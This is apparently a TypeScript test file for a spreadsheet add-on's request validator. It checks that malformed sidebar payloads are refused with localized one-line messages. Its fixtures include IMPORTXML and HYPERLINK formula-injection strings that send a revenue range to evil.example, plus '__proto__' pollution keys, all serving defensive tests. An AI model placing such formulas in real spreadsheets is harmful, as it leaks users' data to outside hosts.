/** The sidebar RPCs' payload checks: bad payloads refused with one line naming the field in the user's language, good ones copied clean. */
import { describe, expect, it } from 'vitest';
import type { Language } from '../../src/kpi/types';
import { REQUEST_MESSAGES } from '../../src/server/request-messages';
import {
  MAX_RANGES,
  readSavedRequest,
  RequestError,
  validateBuildRequest,
  validateSheetId,
  validateStateArgs,
  type RequestContext,
} from '../../src/server/validate-request';
import { parseSheetRange } from '../../src/summary/a1';

const SHEETS = new Set(['Campaigns', 'Q1 "old" <data>']);
const context = (language: Language): RequestContext => ({ language, sheetExists: (name) => SHEETS.has(name) });

/** A request the sidebar could send: two ranges (12 and 2 columns), a Range KPI with a band, a table KPI with a variant. */
const GOOD = {
  ranges: ["'Campaigns'!A1:L13", `'Q1 "old" <data>'!A1:B3`],
  roles: { '0:1': 'revenue', '1:0': null },
  kpis: ['CAC', 'CPL', 'SHARE_OF_VOICE', 'PERIOD_SERIES'],
  targets: { CAC: 500, SHARE_OF_VOICE: [0.2, 0.4] },
  variants: { PERIOD_SERIES: 'average' },
  period: 'month',
  mode: 'portable',
  language: 'en',
} as const;

/** GOOD with some fields replaced (a value of `undefined` leaves the field out). */
function payload(change: Record<string, unknown>): Record<string, unknown> {
  const out: Record<string, unknown> = JSON.parse(JSON.stringify(GOOD));
  for (const [key, value] of Object.entries(change)) {
    if (value === undefined) delete out[key];
    else out[key] = value;
  }
  return out;
}

const IMPORTXML = 'month"&IMPORTXML("http://evil.example/?"&TEXTJOIN(",",1,kpi_revenue),"//a")&"';
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&kpi_revenue,"Click")';

/** [what, payload, the field the message must name]. */
const BAD: readonly [string, unknown, string][] = [
  ['a formula as the period', payload({ period: IMPORTXML }), 'period'],
  ['a formula inside a target pair', payload({ targets: { SHARE_OF_VOICE: [HYPERLINK, 0.4] } }), 'targets["SHARE_OF_VOICE"][0]'],
  ['"__proto__" as the mode', JSON.parse(JSON.stringify(payload({})).replace('"portable"', '"__proto__"')), 'mode'],
  ['"constructor" as the mode', payload({ mode: 'constructor' }), 'mode'],
  ['"toString" as the mode', payload({ mode: 'toString' }), 'mode'],
  ['"hasOwnProperty" as the period', payload({ period: 'hasOwnProperty' }), 'period'],
  ['a mode in capitals', payload({ mode: 'LIVE' }), 'mode'],
  ['a list as the mode', payload({ mode: ['live'] }), 'mode'],
  ['an object where the period belongs', payload({ period: { value: 'month' } }), 'period'],
  ['no period', payload({ period: undefined }), 'period'],
  ['targets as a string', payload({ targets: 'CAC=500' }), 'targets'],
  ['a target as a string', payload({ targets: { CAC: '500' } }), 'targets["CAC"]'],
  ['a pair for a KPI that is not a Range KPI', payload({ targets: { CAC: [100, 200] } }), 'targets["CAC"]'],
  ['low above high', payload({ targets: { SHARE_OF_VOICE: [0.5, 0.1] } }), 'targets["SHARE_OF_VOICE"]'],
  ['NaN (null once it is JSON)', JSON.parse(JSON.stringify(payload({ targets: { CAC: Number.NaN } }))), 'targets["CAC"]'],
  ['Infinity as a high bound (null once it is JSON)', JSON.parse(JSON.stringify(payload({ targets: { SHARE_OF_VOICE: [0, Infinity] } }))), 'targets["SHARE_OF_VOICE"][1]'],
  ['Infinity passed as a number', payload({ targets: { CAC: Infinity } }), 'targets["CAC"]'],
  ['one number for a Range KPI', payload({ targets: { SHARE_OF_VOICE: 0.3 } }), 'targets["SHARE_OF_VOICE"]'],
  ['a pair of three', payload({ targets: { SHARE_OF_VOICE: [0.1, 0.2, 0.3] } }), 'targets["SHARE_OF_VOICE"]'],
  ['a target keyed "__proto__"', JSON.parse('{"ranges":["Campaigns!A1:L13"],"kpis":["CAC"],"targets":{"__proto__":{"x":1}},"period":"none","mode":"live","language":"en"}'), 'targets["__proto__"]'],
  ['a target for a table KPI', payload({ targets: { PERIOD_SERIES: 5 } }), 'targets["PERIOD_SERIES"]'],
  ['an unknown KPI', payload({ kpis: ['CAC', 'NOPE'] }), 'kpis[1]'],
  ['a KPI listed twice', payload({ kpis: ['CAC', 'CAC'] }), 'kpis[1]'],
  ['a KPI the summary cannot write', payload({ kpis: ['RFM_SUMMARY'] }), 'kpis[0]'],
  ['no KPI', payload({ kpis: [] }), 'kpis'],
  ['kpis as a string', payload({ kpis: 'CAC' }), 'kpis'],
  ['an object where a KPI id belongs', payload({ kpis: [{ id: 'CAC' }] }), 'kpis[0]'],
  ['more KPIs than there are', payload({ kpis: Array.from({ length: 500 }, () => 'CAC') }), 'kpis'],
  ['a table variant not among its choices', payload({ variants: { PERIOD_SERIES: 'median' } }), 'variants["PERIOD_SERIES"]'],
  ['a variant for a KPI without one', payload({ variants: { CAC: 'sum' } }), 'variants["CAC"]'],
  ['an object as a variant', payload({ variants: { PERIOD_SERIES: { value: 'sum' } } }), 'variants["PERIOD_SERIES"]'],
  ['variants as a list', payload({ variants: ['sum'] }), 'variants'],
  ['a role not in ROLES', payload({ roles: { '0:1': 'ceo' } }), 'roles["0:1"]'],
  ['"__proto__" as a role', payload({ roles: { '0:1': '__proto__' } }), 'roles["0:1"]'],
  ['a formula as a role', payload({ roles: { '0:1': HYPERLINK } }), 'roles["0:1"]'],
  ['a role key of a third range when there are two', payload({ roles: { '2:0': 'cost' } }), 'roles'],
  ['a role key past the last column of its range', payload({ roles: { '1:2': 'leads' } }), 'roles'],
  ['a role key that is not range:column', payload({ roles: { 'a:b': 'cost' } }), 'roles'],
  ['a negative role key', payload({ roles: { '-1:0': 'cost' } }), 'roles'],
  ['roles as a list', payload({ roles: ['cost'] }), 'roles'],
  ['too many role keys', payload({ roles: Object.fromEntries(Array.from({ length: 2001 }, (_, i) => [`0:${i}`, null])) }), 'roles'],
  ['a range on a sheet that does not exist', payload({ ranges: ["'Gone'!A1:B5"], roles: {} }), 'ranges[0]'],
  ['a formula as the sheet name', payload({ ranges: [`${HYPERLINK}!A1:B2`], roles: {} }), 'ranges[0]'],
  ['"A1:B" without a sheet', payload({ ranges: ['A1:B'], roles: {} }), 'ranges[0]'],
  ['three parts', payload({ ranges: ["'Campaigns'!A1:B2:C3"], roles: {} }), 'ranges[0]'],
  ['a column past ZZZ', payload({ ranges: ['Campaigns!AAAA1'], roles: {} }), 'ranges[0]'],
  ['a row past the largest sheet', payload({ ranges: ['Campaigns!A1:A99999999999'], roles: {} }), 'ranges[0]'],
  ['an unclosed quote', payload({ ranges: ["'Campaigns!A1:B2"], roles: {} }), 'ranges[0]'],
  ['a second range that is garbage', payload({ ranges: ['Campaigns!A1:L13', 'hello'] }), 'ranges[1]'],
  ['an object where a range belongs', payload({ ranges: [{ a1: 'Campaigns!A1:B2' }], roles: {} }), 'ranges[0]'],
  ['ranges as a string', payload({ ranges: 'Campaigns!A1:L13', roles: {} }), 'ranges'],
  ['10,000 ranges', payload({ ranges: Array.from({ length: 10_000 }, () => 'Campaigns!A1:B2'), roles: {} }), 'ranges'],
  ['no range', payload({ ranges: [], roles: {} }), 'ranges'],
  ['an A/B test as a string', payload({ abTest: '0,1' }), 'abTest'],
  ['an A/B test as a list', payload({ abTest: [0, 1] }), 'abTest'],
  ['an A/B test with neither ranges nor a variant column', payload({ abTest: {} }), 'abTest'],
  ['an A/B test with both ranges and a variant column', payload({ abTest: { a: 0, b: 1, variantColumn: '0:1' } }), 'abTest'],
  ['an A/B test with only range A', payload({ abTest: { a: 0 } }), 'abTest.b'],
  ['an A/B test range index as text', payload({ abTest: { a: '0', b: 1 } }), 'abTest.a'],
  ['an A/B test range index that is not whole', payload({ abTest: { a: 0, b: 0.5 } }), 'abTest.b'],
  ['a negative A/B test range index', payload({ abTest: { a: -1, b: 1 } }), 'abTest.a'],
  ['an A/B test range past the last range', payload({ abTest: { a: 0, b: 2 } }), 'abTest.b'],
  ['an A/B test of a range against itself', payload({ abTest: { a: 1, b: 1 } }), 'abTest.b'],
  ['a formula as the variant column', payload({ abTest: { variantColumn: HYPERLINK } }), 'abTest.variantColumn'],
  ['a variant column past the last column of its range', payload({ abTest: { variantColumn: '1:2' } }), 'abTest.variantColumn'],
  ['a variant column as a number', payload({ abTest: { variantColumn: 3 } }), 'abTest.variantColumn'],
  ['a purchase model the forecast does not have', payload({ kpis: ['CLV_FORECAST'], variants: { 'CLV_FORECAST.model': 'gamma' } }), 'variants["CLV_FORECAST.model"]'],
  ['a forecast option the sidebar does not offer', payload({ kpis: ['CLV_FORECAST'], variants: { 'CLV_FORECAST.horizon': '52' } }), 'variants["CLV_FORECAST.horizon"]'],
  ['the first variant by its option name (its key is the KPI id)', payload({ variants: { 'PERIOD_SERIES.aggregate': 'sum' } }), 'variants["PERIOD_SERIES.aggregate"]'],
  ['a calibration end that is not a real date', payload({ kpis: ['CLV_TRACKING'], calibrationEnd: '1997-02-30' }), 'calibrationEnd'],
  ['a calibration end written day first', payload({ kpis: ['CLV_TRACKING'], calibrationEnd: '30/09/1997' }), 'calibrationEnd'],
  ['a calibration end as a number', payload({ kpis: ['CLV_TRACKING'], calibrationEnd: 875577600000 }), 'calibrationEnd'],
  ['language "xx"', payload({ language: 'xx' }), 'language'],
  ['no language', payload({ language: undefined }), 'language'],
  ['null as the request', null, 'request'],
  ['a list as the request', [GOOD], 'request'],
];

const OTHER: readonly Language[] = ['fa', 'ar', 'ru'];
/** Text in the language's own script (the field ids and quoted input aside). */
const SCRIPT: Record<Exclude<Language, 'en'>, RegExp> = { fa: /[\u0600-\u06ff]/, ar: /[\u0600-\u06ff]/, ru: /[\u0400-\u04ff]/ };

/** The RequestError the check throws. */
function refusal(value: unknown, language: Language): RequestError {
  try {
    validateBuildRequest(value, context(language));
  } catch (error) {
    expect(error).toBeInstanceOf(RequestError);
    return error as RequestError;
  }
  throw new Error('accepted');
}

describe('validateBuildRequest refuses', () => {
  it('at least 30 kinds of bad payload', () => {
    expect(BAD.length).toBeGreaterThanOrEqual(30);
  });

  it.each(BAD.map(([what, value, field], i) => [what, field, value, OTHER[i % OTHER.length]] as const))('%s: names %s', (_what, field, value, other) => {
    for (const language of ['en', other] as const) {
      const error = refusal(value, language);
      expect(error.field).toBe(field);
      expect(error.message.startsWith(`${field}: `)).toBe(true);
      expect(error.message).not.toMatch(/[\n\r\u2028\u2029]/);
      expect(error.message.length).toBeLessThan(260);
      const reason = error.message.slice(field.length + 2);
      if (language === 'en') expect(reason).not.toMatch(/[\u0400-\u04ff\u0600-\u06ff]/);
      else expect(reason).toMatch(SCRIPT[language]);
    }
  });

  it('quotes user input cut short, so a formula never comes back whole', () => {
    const error = refusal(payload({ period: IMPORTXML }), 'en');
    expect(error.message).toBe(`period: ${JSON.stringify(`${IMPORTXML.slice(0, 40)}…`)} is not one of none, day, week, month, quarter, year`);
    expect(error.message).not.toContain('kpi_revenue');
    const lines = refusal(payload({ mode: 'live\nportable\u202e' }), 'ru');
    expect(lines.message).toBe('mode: "live portable " — не одно из значений live, portable, values');
  });

  it('a missing sheet in the words of "range gone", in the user\'s language', () => {
    expect(refusal(payload({ ranges: ["'Gone'!A1:B5"], roles: {} }), 'ru').message).toBe(
      "ranges[0]: Диапазона 'Gone'!A1:B5 больше нет (его лист удалён или переименован). Выделите данные снова и нажмите «Использовать выделение».",
    );
  });

  it('low above high and a pair where one number belongs, in words', () => {
    expect(refusal(payload({ targets: { SHARE_OF_VOICE: [0.5, 0.1] } }), 'en').message).toBe('targets["SHARE_OF_VOICE"]: the low bound 0.5 is above the high bound 0.1');
    expect(refusal(payload({ targets: { CAC: [1, 2] } }), 'fa').message).toBe('targets["CAC"]: یک عدد می‌گیرد، نه جفت [پایین، بالا]');
    expect(refusal(payload({ targets: { CAC: null } }), 'en').message).toBe('targets["CAC"]: null is not a finite number');
  });
});

describe('validateBuildRequest accepts', () => {
  it('a good request, as a fresh copy equal to it', () => {
    const input = payload({});
    const checked = validateBuildRequest(input, context('en'));
    expect(checked).toStrictEqual(GOOD);
    expect(checked).not.toBe(input);
    expect(checked.ranges).not.toBe(input.ranges);
    expect(checked.targets.SHARE_OF_VOICE).not.toBe((input.targets as Record<string, unknown>).SHARE_OF_VOICE);
  });

  it('without unknown fields, "__proto__" keys included, and with nothing polluted', () => {
    const input = JSON.parse(JSON.stringify(payload({ extra: '=IMPORTXML("x")', notes: [1, 2] })).replace('{', '{"__proto__":{"polluted":true},'));
    expect(Object.keys(input)).toContain('__proto__');
    const checked = validateBuildRequest(input, context('en'));
    expect(checked).toStrictEqual(GOOD);
    expect(Object.keys(checked)).toEqual(['ranges', 'roles', 'kpis', 'targets', 'period', 'mode', 'language', 'variants']);
    expect(Object.getPrototypeOf(checked)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('a saved request of an older build: no roles, targets or variants', () => {
    const checked = validateBuildRequest({ ranges: ['Campaigns!A1:L13'], kpis: ['CAC'], period: 'none', mode: 'live', language: 'fa' }, context('fa'));
    expect(checked).toStrictEqual({ ranges: ['Campaigns!A1:L13'], roles: {}, kpis: ['CAC'], targets: {}, period: 'none', mode: 'live', language: 'fa' });
  });

  it('an A/B test of two ranges or of a variant column, with no KPI needed besides it', () => {
    expect(validateBuildRequest(payload({ abTest: { b: 0, a: 1, extra: 2 } }), context('en')).abTest).toStrictEqual({ a: 1, b: 0 });
    const column = validateBuildRequest(payload({ kpis: [], abTest: { variantColumn: '0:11' } }), context('en'));
    expect(column).toMatchObject({ kpis: [], abTest: { variantColumn: '0:11' } });
    expect(Object.keys(column)).toEqual(['ranges', 'roles', 'kpis', 'targets', 'period', 'mode', 'language', 'variants', 'abTest']);
    expect(refusal(payload({ kpis: [] }), 'en').message).toBe('kpis: must not be empty');
  });

  it('A/B test refusals in words, in the user\'s language', () => {
    expect(refusal(payload({ abTest: { a: 0, b: 2 } }), 'en').message).toBe('abTest.b: 2 is not the index of one of the 2 ranges (0 is the first)');
    expect(refusal(payload({ abTest: { a: 1, b: 1 } }), 'fa').message).toBe('abTest.b: نسخه‌های A و B باید دو محدوده متفاوت باشند');
    expect(refusal(payload({ abTest: { a: 0 } }), 'en').message).toBe('abTest.b: is missing');
    expect(refusal(payload({ abTest: {} }), 'ru').message).toBe('abTest: принимает либо два диапазона {a, b}, либо столбец вариантов {variantColumn}');
    expect(refusal(payload({ abTest: { variantColumn: '1:2' } }), 'en').message).toBe('abTest.variantColumn: "1:2" is not a "range:column" key of one of the 2 ranges');
  });

  it('the forecast\'s unit and model, and a calibration end only while a CLV table is requested', () => {
    const clv = payload({ kpis: ['CLV_FORECAST', 'CLV_TRACKING'], targets: {}, variants: { CLV_FORECAST: 'month', 'CLV_FORECAST.model': 'pareto_nbd', CLV_TRACKING: 'pareto_nbd', 'CLV_TRACKING.unit': 'calendar_week' }, calibrationEnd: '1997-09-30' });
    const checked = validateBuildRequest(clv, context('en'));
    expect(checked.variants).toStrictEqual({ CLV_FORECAST: 'month', 'CLV_FORECAST.model': 'pareto_nbd', CLV_TRACKING: 'pareto_nbd', 'CLV_TRACKING.unit': 'calendar_week' });
    expect(checked.calibrationEnd).toBe('1997-09-30');
    expect(validateBuildRequest(payload({ calibrationEnd: '1997-09-30' }), context('en'))).not.toHaveProperty('calibrationEnd');
    expect(refusal(payload({ kpis: ['CLV_FORECAST'], calibrationEnd: '1997-02-30' }), 'en').message).toBe('calibrationEnd: "1997-02-30" is not a date written like 2024-03-31');
    expect(refusal(payload({ kpis: ['CLV_FORECAST'], variants: { 'CLV_FORECAST.model': 'gamma' } }), 'ar').message).toBe('variants["CLV_FORECAST.model"]: "gamma" ليس من بين bgnbd، pareto_nbd');
  });

  it('a well-formed target or variant of a KPI not requested is left out', () => {
    const checked = validateBuildRequest(payload({ kpis: ['CAC'], targets: { CAC: 1, NPS: 30 }, variants: { PERIOD_SERIES: 'sum' } }), context('en'));
    expect(checked.targets).toStrictEqual({ CAC: 1 });
    expect(checked.variants).toStrictEqual({});
  });

  it.each(['none', 'day', 'week', 'month', 'quarter', 'year'].flatMap((period) => ['live', 'portable', 'values'].map((mode) => [period, mode])))('period %s, mode %s', (period, mode) => {
    expect(validateBuildRequest(payload({ period, mode }), context('ar'))).toMatchObject({ period, mode });
  });

  it('open-ended and whole-column ranges; role keys inside them', () => {
    const checked = validateBuildRequest(payload({ ranges: ['Campaigns!A2:A', 'Campaigns!B:C'], roles: { '0:0': 'date', '1:1': 'cost' } }), context('en'));
    expect(checked.ranges).toEqual(['Campaigns!A2:A', 'Campaigns!B:C']);
    expect(() => validateBuildRequest(payload({ ranges: ['Campaigns!A2:A', 'Campaigns!B:C'], roles: { '0:1': 'cost' } }), context('en'))).toThrow(/^roles: "0:1" is not/);
  });

  it(`up to ${MAX_RANGES} ranges`, () => {
    const ranges = Array.from({ length: MAX_RANGES }, (_, i) => `Campaigns!A${i + 1}:L13`);
    expect(validateBuildRequest(payload({ ranges, roles: {} }), context('en')).ranges).toEqual(ranges);
  });
});

describe('the other RPC arguments', () => {
  it('sidebarState: ranges (none at first), roles inside them, a language or null', () => {
    expect(validateStateArgs([], {}, null, context('en'))).toStrictEqual({ ranges: [], roles: {}, language: null });
    expect(validateStateArgs(['Campaigns!A1:L13'], { '0:3': null }, 'ru', context('ru'))).toStrictEqual({ ranges: ['Campaigns!A1:L13'], roles: { '0:3': null }, language: 'ru' });
    expect(() => validateStateArgs([], {}, 'xx', context('fa'))).toThrow(/^language: "xx" یکی از en، fa، ar، ru نیست$/);
    expect(() => validateStateArgs([], { '0:0': 'cost' }, null, context('en'))).toThrow('roles: "0:0" is not a "range:column" key of one of the 0 ranges');
    expect(() => validateStateArgs('Campaigns!A1:L13', {}, null, context('en'))).toThrow('ranges: must be a list, not "Campaigns!A1:L13"');
    expect(() => validateStateArgs(["'Gone'!A1:B2"], {}, 'en', context('en'))).toThrow(/^ranges\[0\]: The range 'Gone'!A1:B2 no longer exists/);
  });

  it('sidebarActivate: a whole sheet id', () => {
    expect(validateSheetId(0, 'en')).toBe(0);
    expect(validateSheetId(123456, 'en')).toBe(123456);
    for (const bad of ['3', 1.5, -1, null, Number.NaN, [1]]) expect(() => validateSheetId(bad, 'ar')).toThrow(/^sheetId: .+ ليس عددًا صحيحًا$/);
  });
});

describe('readSavedRequest', () => {
  it('nothing saved is null; a good one comes back checked; a gone sheet is not corruption', () => {
    expect(readSavedRequest(null, { language: 'en' })).toBeNull();
    expect(readSavedRequest('', { language: 'en' })).toBeNull();
    expect(readSavedRequest(JSON.stringify(payload({ extra: 1 })), { language: 'en' })).toStrictEqual(GOOD);
    expect(readSavedRequest(JSON.stringify(payload({ ranges: ["'Gone'!A1:B2"], roles: {} })), { language: 'en' })).toMatchObject({ ranges: ["'Gone'!A1:B2"] });
  });

  it.each([
    ['not JSON', '{"ranges": [', REQUEST_MESSAGES.en.unreadable],
    ['JSON of a number', '42', 'request: must be a set of named values, not 42'],
    ['a formula as the period', JSON.stringify(payload({ period: IMPORTXML })), 'period: '],
    ['targets as a list', JSON.stringify(payload({ targets: [1] })), 'targets: must be a set of named values, not […]'],
  ])('%s is discarded with one line saying so', (_what, raw, reason) => {
    const saved = readSavedRequest(raw, { language: 'en' });
    expect(saved).toHaveProperty('discarded');
    const line = (saved as { discarded: string }).discarded;
    expect(line).toContain(reason);
    expect(line).toMatch(/^The saved summary request was damaged \(.+\) and has been discarded: choose "Build KPI summary" to build it again\.$/);
    expect(line).not.toMatch(/[\n\r]/);
    const persian = readSavedRequest(raw, { language: 'fa' }) as { discarded: string };
    expect(persian.discarded).toMatch(/^درخواست ذخیره‌شده خلاصه خراب بود/);
  });
});

describe('parseSheetRange', () => {
  it('needs a sheet and stays inside the largest sheet', () => {
    expect(parseSheetRange("'O''Brien Q1'!A1:D90")).toEqual({ sheetName: "O'Brien Q1", start: { row: 1, column: 1 }, end: { row: 90, column: 4 } });
    expect(parseSheetRange('Data!B:C')).toEqual({ sheetName: 'Data', start: { column: 2 }, end: { column: 3 } });
    expect(parseSheetRange('Data!A1:A10000000')?.end.row).toBe(10_000_000);
    for (const bad of ['A1:B2', "''!A1", 'Data!A1:A10000001', "'Data!A1", 'Data!']) expect(parseSheetRange(bad), bad).toBeUndefined();
  });
});
